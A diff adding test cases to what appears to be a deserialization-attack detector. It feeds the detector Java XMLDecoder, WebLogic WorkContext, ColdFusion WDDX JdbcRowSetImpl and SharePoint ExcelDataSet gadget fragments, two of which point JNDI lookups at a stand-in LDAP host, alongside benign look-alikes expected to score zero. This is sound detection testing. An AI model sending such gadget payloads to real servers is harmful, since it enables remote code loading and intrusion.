@@ -178,3 +178,17 @@ describe("deserialization analyzer", () => {
     expect(() => deserializationAnalyzer.analyze({ text: junk(200_000), location: "body", path: "body", name: "", kind: "text" })).not.toThrow();
   });
 });
+
+describe("deserialization analyzer: round s23's fixes", () => {
+  test("XMLDecoder's document without its class attribute, and the gadgets exploits name", () => {
+    expect(s("<java><class><string>oracle.toplink.internal.sessions.UnitOfWorkChangeSet</string><void><array class=\"byte\" length=\"2\"/></void></class></java>")).toBe(0.9);
+    expect(s('<work:WorkContext><java version="1.8"><object class="com.example.Widget"><void property="x"/></object></java></work:WorkContext>')).toBe(0.85);
+    // ColdFusion's WDDX drops a type's first and last letters: its exploits wrap the class in two.
+    expect(s("<struct type='xcom.sun.rowset.JdbcRowSetImplx'><var name='dataSourceName'><string>ldap://198.51.100.7:1389/a</string></var></struct>")).toBe(0.9);
+    expect(s('com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://198.51.100.7:1389/a" useFirstPass="true";')).toBe(0.85);
+    expect(s('<ScorecardClient:ExcelDataSet CompressedDataTable="H4sIAAAA" DataTable-CaseSensitive="true" runat="server"/>')).toBe(0.9);
+    expect(s('<java><void method="getRuntime"/></java>')).toBe(0.85);
+    // A build file's Java version, a tag list, a mention of the module, the data set's name alone.
+    for (const v of ["<project><java><version>17</version></java></project>", '{"tags":"<java><class><inner-classes>"}', "Tags: <java> <class> <object>", "the JndiLoginModule docs", "ExcelDataSet export"]) expect([v, s(v)]).toEqual([v, 0]);
+  });
+});
